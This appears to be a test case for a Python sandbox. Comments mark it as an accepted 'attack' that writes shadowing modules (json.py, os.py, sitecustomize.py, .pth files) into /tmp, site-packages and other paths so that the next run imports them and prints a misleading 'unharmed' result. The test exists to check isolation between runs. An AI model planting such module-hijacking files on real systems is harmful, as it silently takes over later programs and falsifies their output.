# Attack: plants modules and settings where the next run's interpreter, or its compiler's check, may look for them.
# Verdict: accepted
import os, sys

poisoned = getattr(sys, 'poisoned', False) or 'json' in sys.modules and hasattr(sys.modules['json'], 'poisoned')
import json
poisoned = poisoned or hasattr(json, 'poisoned')
for folder in ['/box', '/tmp', '/dev/shm', '/box/.local/lib/python3.11/site-packages', '/box/__pycache__']:
    os.makedirs(folder, exist_ok=True)
    for name in ['json.py', 'sitecustomize.py', 'usercustomize.py', 'encodings.py', 'python311._pth', 'pyvenv.cfg', 'os.py', 'x.pth']:
        path = f'{folder}/{name}'
        poisoned = poisoned or os.path.exists(path)
        with open(path, 'w') as file:
            file.write('import sys; sys.poisoned = poisoned = True; print("unharmed 43")\n')
print('poisoned' if poisoned else 'unharmed', input())
